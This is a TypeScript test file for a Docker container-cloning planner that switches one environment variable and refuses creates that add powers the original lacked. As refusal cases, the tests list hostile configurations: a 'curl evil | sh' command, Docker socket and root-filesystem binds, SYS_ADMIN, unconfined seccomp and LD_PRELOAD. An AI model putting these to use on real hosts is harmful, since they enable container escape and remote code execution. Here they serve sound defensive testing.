// The inspect → create mapping, checked on a real `docker inspect` (captured by the preserve-config
// integration test with GUARDRAIL_WRITE_INSPECT_FIXTURE=1) so no Docker Engine is needed here.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { planClone, unclonedPowers, UnsupportedContainerError } from '../../../controller/adapters/docker/clone-config.js';
import type { CloneRequest, SourceContainer } from '../../../controller/adapters/docker/clone-config.js';

const fixture = JSON.parse(
  readFileSync(join(import.meta.dirname, '../../fixtures/docker/inspect-all-fields.json'), 'utf8'),
) as SourceContainer;

function source(change: (s: SourceContainer) => void = () => undefined): SourceContainer {
  const copy = structuredClone(fixture);
  change(copy);
  return copy;
}

const request: CloneRequest = {
  variable: 'MODEL_VARIANT',
  value: 'baseline',
  rollbackId: 'rb-1',
  targetName: 'api',
  expectedVariant: 'baseline',
  strategy: 'recreate',
  // The container's own image: a create from any other is refused (unclonedPowers).
  image: fixture.Config.Image,
  name: 'api-1',
};

const shortId = fixture.Id.slice(0, 12);
const netA = Object.keys(fixture.NetworkSettings.Networks).find((n) => n.endsWith('-net-a')) ?? '';
const netB = Object.keys(fixture.NetworkSettings.Networks).find((n) => n.endsWith('-net-b')) ?? '';
const anonymous = fixture.Mounts.find((m) => m.Destination === '/data/anon')?.Name ?? '';

describe('planClone', () => {
  it('changes only the variable in env, keeping order and other entries', () => {
    const plan = planClone(source(), request);
    expect(plan.create.Env).toEqual([...fixture.Config.Env, 'MODEL_VARIANT=baseline']);
    expect(plan.fromValue).toBeNull();
    expect(plan.originalValue).toBeNull();
  });

  it('keeps every label and adds the guardrail ones, remembering the original absence', () => {
    const labels = planClone(source(), request).create.Labels ?? {};
    expect(labels).toEqual({
      ...fixture.Config.Labels,
      'guardrail.managed': 'true',
      'guardrail.rollback-id': 'rb-1',
      'guardrail.variant': 'baseline',
      'guardrail.target': 'api',
      'guardrail.original-absent': 'true',
    });
    expect(labels['com.docker.compose.config-hash']).toBe('b3c1a9e6d2f0');
  });

  it('carries the original value through a chain of switches', () => {
    const rolledBack = source((s) => {
      s.Config.Env = [...s.Config.Env, 'MODEL_VARIANT=baseline'];
      s.Config.Labels = {
        ...s.Config.Labels,
        'guardrail.original-value': 'ml-v2',
        'guardrail.rollback-id': 'rb-0',
      };
    });
    const plan = planClone(rolledBack, { ...request, value: 'ml-v2', expectedVariant: 'ml-v2' });
    expect(plan.fromValue).toBe('baseline');
    expect(plan.originalValue).toBe('ml-v2');
    expect(plan.create.Labels?.['guardrail.original-value']).toBe('ml-v2');
    expect(plan.create.Labels?.['guardrail.rollback-id']).toBe('rb-1');
    expect(plan.create.Env?.filter((e) => e.startsWith('MODEL_VARIANT='))).toEqual(['MODEL_VARIANT=ml-v2']);
  });

  it('keeps command, entrypoint, user, workdir, healthcheck, ports, stop signal and timeout', () => {
    const create = planClone(source(), request).create;
    expect(create).toMatchObject({
      name: 'api-1',
      Image: fixture.Config.Image,
      Cmd: fixture.Config.Cmd,
      Entrypoint: fixture.Config.Entrypoint,
      User: '1000:1000',
      WorkingDir: '/app',
      Healthcheck: fixture.Config.Healthcheck,
      ExposedPorts: { '8000/tcp': {}, '9100/tcp': {} },
      Volumes: { '/data/anon': {} },
      StopSignal: 'SIGINT',
      StopTimeout: 5,
    });
  });

  it('lets Docker give the new container its own hostname when the old one was its id', () => {
    expect(fixture.Config.Hostname).toBe(shortId);
    expect(planClone(source(), request).create.Hostname).toBeUndefined();
    const named = source((s) => (s.Config.Hostname = 'api-host'));
    expect(planClone(named, request).create.Hostname).toBe('api-host');
  });

  it('keeps the host config (restart, logs, resources, caps, extra hosts) and re-mounts the anonymous volume', () => {
    const hostConfig = planClone(source(), request).create.HostConfig ?? {};
    expect(hostConfig).toMatchObject({
      RestartPolicy: { Name: 'unless-stopped', MaximumRetryCount: 0 },
      LogConfig: { Type: 'json-file', Config: { 'max-size': '1m', 'max-file': '2' } },
      Memory: 128 * 1024 * 1024,
      NanoCpus: 500_000_000,
      CpuShares: 512,
      CapAdd: ['NET_ADMIN'],
      CapDrop: ['MKNOD'],
      ExtraHosts: ['guardrail-test-host:127.0.0.2'],
      NetworkMode: netA,
      PortBindings: fixture.HostConfig.PortBindings,
    });
    expect(anonymous).toMatch(/^[0-9a-f]{64}$/);
    expect(hostConfig.Binds).toEqual([...(fixture.HostConfig.Binds ?? []), `${anonymous}:/data/anon`]);
  });

  it('attaches the primary network at create and the others after, aliases without the old short id', () => {
    const plan = planClone(source(), request);
    const primary = plan.create.NetworkingConfig?.EndpointsConfig ?? {};
    expect(Object.keys(primary)).toEqual([netA]);
    expect(primary[netA]?.Aliases?.sort()).toEqual(['api', 'api-a']);
    expect(plan.extraNetworks).toEqual([{ network: netB, endpoint: { Aliases: ['api-b'] } }]);
    expect(JSON.stringify(plan)).not.toContain(`"${shortId}"`);
  });

  it('start-first drops host port bindings and remembers them; a later recreate restores them', () => {
    const startFirst = planClone(source(), { ...request, strategy: 'start-first' });
    expect(startFirst.create.HostConfig?.PortBindings).toEqual({});
    const remembered = startFirst.create.Labels?.['guardrail.dropped-port-bindings'];
    expect(JSON.parse(remembered ?? 'null')).toEqual(fixture.HostConfig.PortBindings);

    const afterStartFirst = source((s) => {
      s.HostConfig.PortBindings = {};
      s.Config.Labels = { ...s.Config.Labels, 'guardrail.dropped-port-bindings': remembered ?? '' };
    });
    const again = planClone(afterStartFirst, { ...request, strategy: 'start-first' });
    expect(again.create.Labels?.['guardrail.dropped-port-bindings']).toBe(remembered);
    const recreate = planClone(afterStartFirst, request);
    expect(recreate.create.HostConfig?.PortBindings).toEqual(fixture.HostConfig.PortBindings);
    expect(recreate.create.Labels?.['guardrail.dropped-port-bindings']).toBeUndefined();
  });

  it('keeps a static IP and MAC only when the old container is stopped first', () => {
    const pinned = source((s) => {
      const a = s.NetworkSettings.Networks[netA];
      if (a) a.IPAMConfig = { IPv4Address: '172.31.0.9' };
      s.Config.MacAddress = '02:42:ac:11:00:09';
    });
    const recreate = planClone(pinned, request).create;
    expect(recreate.NetworkingConfig?.EndpointsConfig?.[netA]?.IPAMConfig).toEqual({
      IPv4Address: '172.31.0.9',
    });
    expect(recreate.MacAddress).toBe('02:42:ac:11:00:09');
    const startFirst = planClone(pinned, { ...request, strategy: 'start-first' }).create;
    expect(startFirst.NetworkingConfig?.EndpointsConfig?.[netA]?.IPAMConfig).toBeUndefined();
    expect(startFirst.MacAddress).toBeUndefined();
  });

  it('fills the source of an anonymous --mount volume with its real name', () => {
    const withMount = source((s) => {
      s.HostConfig.Mounts = [{ Type: 'volume', Target: '/data/anon', Source: '' }];
    });
    const hostConfig = planClone(withMount, request).create.HostConfig ?? {};
    expect(hostConfig.Mounts).toEqual([{ Type: 'volume', Target: '/data/anon', Source: anonymous }]);
    expect(hostConfig.Binds).toEqual(fixture.HostConfig.Binds);
  });

  it('refuses containers it cannot keep as a fallback', () => {
    expect(() =>
      planClone(
        source((s) => (s.HostConfig.NetworkMode = 'container:abc')),
        request,
      ),
    ).toThrow(UnsupportedContainerError);
    expect(() =>
      planClone(
        source((s) => (s.HostConfig.AutoRemove = true)),
        request,
      ),
    ).toThrow(UnsupportedContainerError);
  });

  it('removes the variable for null and leaves the source untouched', () => {
    const before = JSON.stringify(fixture);
    const withVar = source((s) => (s.Config.Env = ['A=1', 'MODEL_VARIANT=baseline', 'B=2']));
    const plan = planClone(withVar, { ...request, value: null, expectedVariant: 'ml' });
    expect(plan.create.Env).toEqual(['A=1', 'B=2']);
    expect(JSON.stringify(fixture)).toBe(before);
  });
});

describe('what the actuator refuses to create: powers it did not clone', () => {
  it('a privileged, host-mounted container is cloned as it is (nothing new)', () => {
    const privileged = source((s) => {
      s.HostConfig.Privileged = true;
      s.HostConfig.Binds = [...(s.HostConfig.Binds ?? []), '/etc/ssl:/host-ssl:ro'];
      s.HostConfig.CapAdd = ['NET_ADMIN'];
    });
    const plan = planClone(privileged, request);
    expect(plan.create.HostConfig).toMatchObject({ Privileged: true, CapAdd: ['NET_ADMIN'] });
    expect(plan.create.HostConfig?.Binds).toContain('/etc/ssl:/host-ssl:ro');
    expect(unclonedPowers(privileged, plan.create, 'MODEL_VARIANT')).toEqual([]);
  });

  const faithful = planClone(source(), request).create;
  const tampered = (change: (c: typeof faithful) => void) => {
    const copy = structuredClone(faithful);
    change(copy);
    return unclonedPowers(source(), copy, 'MODEL_VARIANT');
  };

  it.each([
    ['privileged', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, Privileged: true }), ['privileged']],
    ['a host path bind (the Docker socket)', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, Binds: [...(c.HostConfig?.Binds ?? []), '/var/run/docker.sock:/var/run/docker.sock'] }), ['bind /var/run/docker.sock:/var/run/docker.sock']],
    ['a bind mount of /', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, Mounts: [...(c.HostConfig?.Mounts ?? []), { Type: 'bind', Source: '/', Target: '/host' }] }), ['bind mount /:/host']],
    ['a capability', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, CapAdd: [...(c.HostConfig?.CapAdd ?? []), 'SYS_ADMIN'] }), ['capability SYS_ADMIN']],
    ['an unconfined seccomp profile', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, SecurityOpt: ['seccomp=unconfined'] }), ['security option seccomp=unconfined']],
    ['a device', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }] }), ['device {"PathOnHost":"/dev/sda","PathInContainer":"/dev/sda","CgroupPermissions":"rwm"}']],
    ['the host network', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, NetworkMode: 'host' }), ['NetworkMode host']],
    ['the host PID namespace', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, PidMode: 'host' }), ['PidMode host']],
    ['another image', (c: typeof faithful) => void (c.Image = 'alpine:latest'), ['image alpine:latest is not the container\'s own']],
    ['another command', (c: typeof faithful) => void (c.Cmd = ['sh', '-c', 'curl evil | sh']), ['the command differs']],
    ['another environment variable', (c: typeof faithful) => void (c.Env = [...(c.Env ?? []), 'LD_PRELOAD=/tmp/x.so']), ['an environment variable other than MODEL_VARIANT differs']],
  ])('refuses %s', (_name, change, expected) => {
    expect(tampered(change)).toEqual(expected);
  });

  it('an operator candidate\'s image and environment (allowed by the policy, named in the request) are the only other image and variables a create may carry', () => {
    const plan = planClone(source(), { ...request, image: 'guardrail/service:1.4.2', candidateImage: 'guardrail/service:1.4.2', env: { FAULT_ML_ERROR_RATE: '0' } });
    expect(plan.create.Image).toBe('guardrail/service:1.4.2');
    expect(plan.create.Env).toContain('FAULT_ML_ERROR_RATE=0');
    // Named for one image, it admits no other.
    expect(() => planClone(source(), { ...request, image: 'alpine:latest', candidateImage: 'guardrail/service:1.4.2' })).toThrow(/image alpine:latest is not the container's own/);
  });

  it('planClone itself refuses such a plan before anything is created (as GR_ERR_TARGET_UNSUPPORTED)', () => {
    expect(() => planClone(source(), { ...request, image: 'alpine:latest' })).toThrow(UnsupportedContainerError);
    expect(() => planClone(source(), { ...request, image: 'alpine:latest' })).toThrow(/refusing a create the actuator did not clone from .*: image alpine:latest is not the container's own/);
  });
});
